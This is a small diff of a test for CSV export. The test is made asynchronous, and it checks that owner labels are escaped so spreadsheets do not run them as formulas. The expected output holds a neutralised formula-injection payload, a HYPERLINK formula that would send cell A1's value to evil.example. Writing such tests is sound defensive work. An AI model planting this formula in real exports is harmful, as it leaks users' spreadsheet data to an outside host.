@@ -20,8 +20,8 @@ const report = {
 };
 
 describe('a report as CSV', () => {
-  it('puts each id’s label beside it and neutralises a label a spreadsheet would run as a formula', () => {
-    const read = parse(toCsv(report)) as string[][];
+  it('puts each id’s label beside it and neutralises a label a spreadsheet would run as a formula', async () => {
+    const read = parse(await toCsv(report)) as string[][];
     expect(read).toEqual([
       ['period', 'ownerId', 'ownerIdLabel', 'revenueWon'],
       ['2025-01-01', 'm1', `'=HYPERLINK("https://evil.example?"&A1)`, '3000'],
